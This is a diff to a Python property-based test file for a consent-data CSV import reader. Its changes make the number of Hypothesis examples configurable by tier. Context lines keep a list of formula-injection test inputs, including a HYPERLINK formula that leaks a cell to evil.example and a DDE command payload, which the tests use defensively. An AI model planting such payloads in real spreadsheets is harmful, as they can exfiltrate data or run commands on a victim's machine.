@@ -21,6 +21,7 @@ from config.schema import ConsentSettings
 from consent.parse import COLUMNS, MAX_CELL, read_export
 from tests.consent.conftest import add_post, form, sessions_of, write_export
 from tests.sandboxed import Setup
+from tests.tiers import examples
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+44 20", "-2+3",
             "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1"]  # fmt: skip
@@ -108,7 +109,7 @@ def _read(data: bytes, suffix: str = ".csv") -> Any:
         return read_export(path, ConsentSettings())
 
 
-@settings(max_examples=150, deadline=None)
+@settings(max_examples=examples(150), deadline=None)
 @given(exports())
 def test_every_row_is_kept_or_named(export: tuple[bytes, list[Row]]) -> None:
     data, rows = export
@@ -176,7 +177,9 @@ def test_a_missing_required_column_is_named(columns: list[str], missing: str) ->
 
 
 @settings(
-    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+    max_examples=examples(20),
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture],
 )
 @given(exports())
 def test_the_command_exits_0_or_65_and_never_shows_a_traceback(
